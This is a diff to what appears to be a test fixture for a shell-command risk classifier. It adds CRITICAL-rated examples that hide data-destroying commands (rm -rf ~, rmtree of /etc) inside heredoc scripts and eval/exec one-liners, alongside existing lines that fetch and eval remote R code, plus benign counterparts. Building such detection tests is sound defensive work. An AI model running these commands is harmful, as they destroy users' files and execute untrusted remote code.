@@ -1005,6 +1005,23 @@ TRAPS_AND_FORMS: list[tuple[str, RiskLevel]] = [
     ),
     ("Rscript -e 'eval(parse(text = readLines(\"http://203.0.113.9/a\")))'", CRITICAL),
     ("Rscript -e 'source(url(\"http://203.0.113.9/a.R\"))'", CRITICAL),
+    # scripts written in the same line, then run by their interpreter
+    (
+        "cat > /tmp/x.py <<'EOF'\nimport shutil\nshutil.rmtree('/home/alice')\nEOF\n"
+        "python3 /tmp/x.py",
+        CRITICAL,
+    ),
+    ("echo 'import os; os.system(\"rm -rf ~\")' > x.py && python3 x.py", CRITICAL),
+    ("printf 'system(\"rm -rf /etc\");\\n' > x.pl; perl x.pl", CRITICAL),
+    ("tee /tmp/x.sh <<'EOF' >/dev/null\nrm -rf ~\nEOF\nbash /tmp/x.sh", CRITICAL),
+    # code in code: eval of a constant string
+    ('python3 -c "exec(\'import os\\nos.system(\\"rm -rf ~\\")\')"', CRITICAL),
+    (
+        "python3 -c \"eval(compile('import shutil; shutil.rmtree(\\\"/etc\\\")', 'x', 'exec'))\"",
+        CRITICAL,
+    ),
+    ('php -r \'eval("system(\\"rm -rf ~\\");");\'', CRITICAL),
+    ("ruby -e 'eval(\"system(%q{rm -rf ~})\")'", CRITICAL),
 ]
 
 BENIGN_FORMS: list[tuple[str, RiskLevel]] = [
@@ -1043,6 +1060,9 @@ BENIGN_FORMS: list[tuple[str, RiskLevel]] = [
     ("parallel gzip ::: *.log", MODERATE),
     ("parallel -j4 'convert {} {.}.png' ::: *.jpg", MODERATE),
     ('for f in $(ls *.txt); do wc -l "$f"; done', MODERATE),
+    ("echo 'print(\"hi\")' > hello.py && python3 hello.py", MODERATE),
+    ("cat > build.sh <<'EOF'\nmake clean && make\nEOF\nbash build.sh", MODERATE),
+    ("python3 -c \"exec('print(42)')\"", MODERATE),
     (
         "Rscript -e 'd <- read.csv(url(\"https://example.com/data.csv\")); print(summary(d))'",
         MODERATE,
